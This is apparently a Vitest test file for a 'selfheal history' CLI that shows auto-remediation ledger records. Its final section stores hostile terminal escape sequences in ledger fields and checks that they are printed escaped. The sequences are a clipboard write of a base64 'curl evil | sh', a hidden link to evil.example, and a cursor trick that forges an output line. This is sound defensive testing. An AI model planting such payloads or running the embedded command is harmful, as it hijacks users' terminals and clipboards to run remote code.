import { describe, expect, it } from 'vitest';
import type { LedgerLocation, OpenLedger } from '../../cli/history-command';
import { main } from '../../cli/main';
import { InMemoryLedger } from '../../lambdas/core/remediation/ledger-memory';
import { FakeClock } from '../unit/remediation/ledger-fixtures';
import { fakeDeps } from './fixtures/fake-deps';
import { DRY_RUN, ESCALATED, REPLACED, RESOLVED, seedHistory, T0 } from './fixtures/history-records';
import { memoryIo } from './fixtures/memory-io';

/** An in-memory ledger seeded with four stories, and the locations the command opened. */
async function seeded() {
  const clock = new FakeClock(T0);
  const ledger = new InMemoryLedger(clock, { retentionDays: 90 });
  await seedHistory(ledger, clock);
  const opened: LedgerLocation[] = [];
  const openLedger: OpenLedger = (location) => {
    opened.push(location);
    return ledger;
  };
  return { opened, openLedger };
}

async function history(args: string[], openLedger: OpenLedger) {
  const io = memoryIo();
  const code = await main(['history', ...args], io, { ...fakeDeps, openLedger });
  return { code, out: io.out.join(''), err: io.err.join('') };
}

describe('selfheal history', () => {
  it('lists the ledger newest first from the table and region given', async () => {
    const { opened, openLedger } = await seeded();

    const { code, out, err } = await history(
      ['--table', 'SelfHeal-Ledger', '--region', 'eu-west-1'],
      openLedger,
    );

    expect(code).toBe(0);
    expect(err).toBe('');
    expect(opened).toEqual([{ table: 'SelfHeal-Ledger', region: 'eu-west-1' }]);
    expect(out.split('\n')[0]).toBe('4 remediations in SelfHeal-Ledger, newest first');
    expect([...out.matchAll(/^\S+Z +rem-\S+ +\S+ +(i-\w+)/gm)].map((m) => m[1])).toEqual([
      'i-0web',
      'i-0def',
      'i-0old',
      'i-0abc',
    ]);
    expect(out).toContain('SNS sns-msg-9; OpsItem failed: AccessDeniedException');
  });

  it('leaves the region to the SDK when --region is absent and honours --limit', async () => {
    const { opened, openLedger } = await seeded();

    const { code, out } = await history(['--table', 't', '--limit', '2'], openLedger);

    expect(code).toBe(0);
    expect(opened).toEqual([{ table: 't' }]);
    expect(out).toContain('2 remediations in t, newest first');
    expect(out).not.toContain('i-0old');
    expect(out).toContain('(the latest 2;');
  });

  it('prints the stored records with --json', async () => {
    const { openLedger } = await seeded();

    const { code, out } = await history(['--table', 't', '--json'], openLedger);

    expect(code).toBe(0);
    expect(JSON.parse(out)).toEqual([DRY_RUN, ESCALATED, REPLACED, RESOLVED]);
  });

  it('shows a recovery by INSUFFICIENT_DATA in the table and with --id, and prints it as stored with --json', async () => {
    const { openLedger } = await seeded();

    const table = await history(['--table', 't'], openLedger);
    const text = await history(['--table', 't', '--id', REPLACED.id], openLedger);
    const json = await history(['--table', 't', '--id', REPLACED.id, '--json'], openLedger);

    expect(table.out).toMatch(
      / i-0old +web-status-i-0old +enforce +resolved +6m 10s \(no data\) +exec-3333 +-\n/,
    );
    expect(table.out).toMatch(/ i-0abc +disk-full-i-0abc +enforce +resolved +4m 05s +exec-1111 +-\n/);
    expect(text.out).toContain('state:       resolved, recovered in 6m 10s (alarm INSUFFICIENT_DATA)\n');
    expect(text.out).toContain(
      '  2024-03-04T11:01:00Z  verifying\n  2024-03-04T11:04:00Z  (automation succeeded)\n  2024-03-04T11:06:10Z  resolved\n',
    );
    expect(JSON.parse(json.out)).toEqual(REPLACED);
    expect(JSON.parse(json.out)).toMatchObject({
      recoveredState: 'INSUFFICIENT_DATA',
      automationSucceededAtSec: T0 + 2040,
    });
  });

  it('lists the id of every remediation, which the not-found message of --id points to', async () => {
    const { openLedger } = await seeded();

    const missing = await history(['--table', 't', '--id', 'rem-nope'], openLedger);
    const listing = await history(['--table', 't'], openLedger);

    // The message sends the operator to the listing for ids ...
    expect(missing.err).toContain("'selfheal history --table t' lists ids");
    expect(listing.code).toBe(0);
    // ... so each row carries the id `--id` takes, in its own column after the time.
    const ids = [...listing.out.matchAll(/^\S+Z +(\S+) /gm)].map((m) => m[1]);
    expect(ids).toEqual([DRY_RUN.id, ESCALATED.id, REPLACED.id, RESOLVED.id]);
    for (const id of ids) {
      expect((await history(['--table', 't', '--id', id ?? ''], openLedger)).code).toBe(0);
    }
  });

  it('keeps the first start of a remediation that was blocked on resume and started again in its --id timeline', async () => {
    // started → blocked (a resumed start could not retake its holds, engine-start.ts) → started
    // (the sweeper's re-drive, redrive-blocked.ts): the first start, whose request may have reached
    // SSM, stays in the timeline though stateTimes keeps only the last time of each state.
    const clock = new FakeClock(T0);
    const ledger = new InMemoryLedger(clock, { retentionDays: 90 });
    await ledger.createRemediation({
      id: 'rem-twice',
      ruleId: 'disk-full-cleanup',
      resourceId: 'i-0abc',
      alarmName: 'disk-full-i-0abc',
      eventId: 'evt-twice',
      mode: 'enforce',
      state: 'started',
      verdicts: [],
      documentName: 'SelfHeal-cleanup-directory',
      parameters: { Directory: ['/var/log/app/'] },
      clientToken: 'tok-twice',
      deadlineSec: T0 + 600,
    });
    clock.set(T0 + 120);
    await ledger.transition('rem-twice', 'started', 'blocked', { blockedBy: 'globalCap' });
    clock.set(T0 + 300);
    await ledger.transition('rem-twice', 'blocked', 'started', { deadlineSec: T0 + 900 });
    clock.set(T0 + 360);
    await ledger.transition('rem-twice', 'started', 'verifying', { executionId: 'exec-1' });

    const { code, out } = await history(['--table', 't', '--id', 'rem-twice'], () => ledger);

    expect(code).toBe(0);
    expect(out).toContain(
      [
        'timeline (UTC):',
        '  2024-03-04T10:30:00Z  started',
        '  2024-03-04T10:32:00Z  blocked',
        '  2024-03-04T10:35:00Z  started',
        '  2024-03-04T10:36:00Z  verifying',
        '  2024-03-04T10:45:00Z  (verification deadline)',
        'guardrails:',
      ].join('\n'),
    );
  });

  it('prints one remediation timeline with --id, or its record with --json', async () => {
    const { openLedger } = await seeded();

    const text = await history(['--table', 't', '--id', 'rem-resolved'], openLedger);
    const json = await history(['--table', 't', '--id', 'rem-escalated', '--json'], openLedger);

    expect(text.code).toBe(0);
    expect(text.out).toContain('remediation rem-resolved\n');
    expect(text.out).toContain('  2024-03-04T10:34:05Z  resolved\n');
    expect(text.out).toContain('  3. frequencyLimit  pass  1 of 3 remediations in 24 h\n');
    expect(JSON.parse(json.out)).toEqual(ESCALATED);
  });

  it('says so in one line when the ledger is empty', async () => {
    const empty = new InMemoryLedger(new FakeClock(T0), { retentionDays: 90 });

    const { code, out } = await history(['--table', 't'], () => empty);

    expect(code).toBe(0);
    expect(out).toBe('no remediations recorded in t\n');
  });

  it('prints the help with --help', async () => {
    const { code, out } = await history(['--help'], fakeDeps.openLedger);

    expect(code).toBe(0);
    expect(out).toMatch(/^Usage: selfheal history --table NAME/);
  });

  it.each([
    [[], 'selfheal: history needs --table NAME (the ledger table: stack output LedgerTableName)\n'],
    [['--table', ' '], 'selfheal: --table must not be empty\n'],
    [['--table', 't', '--limit', '0'], 'selfheal: --limit must be a whole number from 1 to 500, got "0"\n'],
    [
      ['--table', 't', '--limit', '501'],
      'selfheal: --limit must be a whole number from 1 to 500, got "501"\n',
    ],
    [
      ['--table', 't', '--id', 'x', '--limit', '5'],
      'selfheal: --id shows one remediation; leave out --limit\n',
    ],
    [
      ['--table', 't', '--since', '1d'],
      "selfheal: unknown flag --since for 'history' (see 'selfheal history --help')\n",
    ],
    [
      ['--table', 't', '--id', 'rem-nope'],
      "selfheal: remediation rem-nope not found in t (it may have expired; 'selfheal history --table t' lists ids)\n",
    ],
  ])('fails with exit 2 and one line for %j', async (args, message) => {
    const { openLedger } = await seeded();

    const { code, out, err } = await history(args, openLedger);

    expect(code).toBe(2);
    expect(out).toBe('');
    expect(err).toBe(message);
  });
});

const ESC = '\u001b';
const BEL = '\u0007';
/** Clears the screen, then asks the terminal to put `curl evil | sh` on the clipboard (OSC 52). */
const HOSTILE_ALARM = `disk-full${ESC}[2J${ESC}]52;c;Y3VybCBldmlsIHwgc2gK${BEL}`;
/** OSC 8: a link to evil.example behind the text "click". */
const HOSTILE_RESOURCE = `i-0abc${ESC}]8;;https://evil.example/${ESC}\\click${ESC}]8;;${ESC}\\`;
/** Moves up a line and erases it, then writes a line of its own. */
const HOSTILE_REASON = `ok${ESC}[1A${ESC}[2Kforged line`;

/**
 * An in-memory ledger holding one dry run whose strings carry escape sequences: whoever can
 * write the table controls them (the record decoder checks types only).
 */
async function hostileLedger(): Promise<OpenLedger> {
  const clock = new FakeClock(T0 + 7200);
  const ledger = new InMemoryLedger(clock, { retentionDays: 90 });
  await ledger.createRemediation({
    id: DRY_RUN.id,
    ruleId: DRY_RUN.ruleId,
    resourceId: HOSTILE_RESOURCE,
    alarmName: HOSTILE_ALARM,
    eventId: DRY_RUN.eventId,
    mode: 'dryRun',
    state: 'dryRun',
    verdicts: [{ guardrail: 'mode', outcome: 'block', reason: HOSTILE_REASON }],
  });
  return () => ledger;
}

describe('selfheal history with escape sequences in ledger strings', () => {
  it('shows them as escapes in the history table, sending no ESC or BEL to the terminal', async () => {
    const openLedger = await hostileLedger();

    const { code, out } = await history(['--table', 't'], openLedger);

    expect(code).toBe(0);
    expect(out).not.toContain(ESC);
    expect(out).not.toContain(BEL);
    expect(out).toContain('disk-full\\x1b[2J\\x1b]52;c;Y3VybCBldmlsIHwgc2gK\\x07');
    expect(out).toContain('i-0abc\\x1b]8;;https://evil.example/\\x1b\\click');
  });

  it("shows them as escapes in one remediation's timeline (--id), forging no line", async () => {
    const openLedger = await hostileLedger();

    const { code, out } = await history(['--table', 't', '--id', DRY_RUN.id], openLedger);

    expect(code).toBe(0);
    expect(out).not.toContain(ESC);
    expect(out).not.toContain(BEL);
    expect(out).toContain('  1. mode  block  ok\\x1b[1A\\x1b[2Kforged line\n');
    expect(out).toContain('alarm:       disk-full\\x1b[2J');
  });
});
